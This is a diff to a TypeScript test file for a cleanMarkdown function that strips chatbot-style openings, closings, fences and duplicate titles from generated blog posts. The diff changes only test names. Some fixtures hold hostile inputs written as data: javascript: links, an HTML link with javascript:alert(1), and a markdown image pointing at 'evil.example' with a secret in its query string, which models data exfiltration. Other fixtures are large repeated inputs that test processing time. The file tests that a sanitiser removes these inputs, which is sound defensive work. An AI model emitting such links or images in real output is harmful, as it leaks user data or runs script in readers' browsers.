@@ -5,7 +5,7 @@ import { cleanMarkdown } from './clean-markdown.ts'
 const post =
   '# Five mistakes\n\n## 1. No plan\n\nA [link](https://example.org) and `code`.\n\n| a | b |\n| - | - |\n| 1 | 2 |'
 
-test('a clean post comes back as it is', () => {
+test('a clean post is returned unchanged', () => {
   expect(cleanMarkdown(`\n${post}\n\n`)).toBe(post)
   const rich =
     '# T\n\n- [ ] Task\n- [x] Done\n\n> Quote\n\n1. One\n   - Sub\n\n```js\nconst a = ' +
@@ -14,7 +14,7 @@ test('a clean post comes back as it is', () => {
   expect(cleanMarkdown(rich)).toBe(rich)
 })
 
-describe('what is around the whole answer', () => {
+describe('around the post', () => {
   test.each([
     ['a fence', `\`\`\`markdown\n${post}\n\`\`\``],
     ['a fence without a language', `\`\`\`\n${post}\n\`\`\``],
@@ -31,9 +31,9 @@ describe('what is around the whole answer', () => {
     ['a closing after a rule', `${post}\n\n---\n\nWould you like me to expand a section?`],
     ['a word count', `${post}\n\n*(Word count: 1,012)*`.replace('*(', '(').replace(')*', ')')],
     ['a closing in German', `${post}\n\nSoll ich noch etwas anpassen?`],
-    ['both', `Certainly.\n\n${post}\n\nI hope this post helps.`],
+    ['an opening and a closing', `Certainly.\n\n${post}\n\nI hope this post helps.`],
     ['Windows line ends', post.replaceAll('\n', '\r\n')],
-  ])('%s goes', (_name, answer) => {
+  ])('%s is removed', (_name, answer) => {
     expect(cleanMarkdown(answer)).toBe(post)
   })
 
@@ -43,12 +43,12 @@ describe('what is around the whole answer', () => {
     expect(cleanMarkdown(inner)).toBe(inner)
   })
 
-  test('a post that begins and ends with code keeps it', () => {
+  test('code at the beginning and the end of a post is kept', () => {
     const text = '```\na()\n```\n\nText.\n\n```\nb()\n```'
     expect(cleanMarkdown(text)).toBe(text)
   })
 
-  test('sentences of the post itself stay', () => {
+  test('similar sentences of the post itself are kept', () => {
     const text =
       '# T\n\nHere is the thing: plans fail.\n\n## Next\n\nWould you like to know more? Let us know if you need help.'
     expect(cleanMarkdown(text)).toBe(text)
@@ -60,7 +60,7 @@ test.each([
   ['as bold text before', '**My title**\n\n# My title\n\nText.'],
   ['as bold text after', '# My title\n\n**My Title**\n\nText.'],
   ['once', '# My title\n\nText.'],
-])('the title %s stands once', (_name, text) => {
+])('the title %s is written once', (_name, text) => {
   expect(cleanMarkdown(text)).toBe('# My title\n\nText.')
 })
 
@@ -76,7 +76,7 @@ describe('links', () => {
     ['<javascript:alert>', 'javascript:alert'],
     ['[a][x] b\n\n[x]: javascript:alert', 'a b'],
     ['[![pic](https://example.org/p.png)](javascript:alert)', 'pic'],
-  ])('%s loses its address', (text, expected) => {
+  ])('%s is replaced by its text', (text, expected) => {
     expect(cleanMarkdown(text)).toBe(expected)
   })
 
@@ -104,17 +104,17 @@ test.each([
   ['<a href="javascript:alert(1)">x</a>', 'x'],
   ['![secret](https://evil.example/?q=secret) text', 'secret text'],
   ['2 < 3 and 5 > 4', '2 < 3 and 5 > 4'],
-])('HTML and images go: %s', (text, expected) => {
+])('HTML and images are removed: %s', (text, expected) => {
   expect(cleanMarkdown(text)).toBe(expected)
 })
 
 test.each([
-  ['quotations', '>'.repeat(20_000)],
+  ['nested quotations', '>'.repeat(20_000)],
   ['lists on a line', '- '.repeat(20_000)],
-  ['indentation', Array.from({ length: 600 }, (_, level) => `${' '.repeat(level * 2)}- a`).join('\n')],
+  ['indented list items', Array.from({ length: 600 }, (_, level) => `${' '.repeat(level * 2)}- a`).join('\n')],
   ['open brackets', '![a]('.repeat(20_000)],
   ['tags', '<a '.repeat(20_000)],
-])('endless %s take no minutes', (_name, text) => {
+])('thousands of %s are processed in reasonable time', (_name, text) => {
   const started = cpuTime()
   cleanMarkdown(text)
   expect(cpuTime() - started).toBeLessThan(15_000)
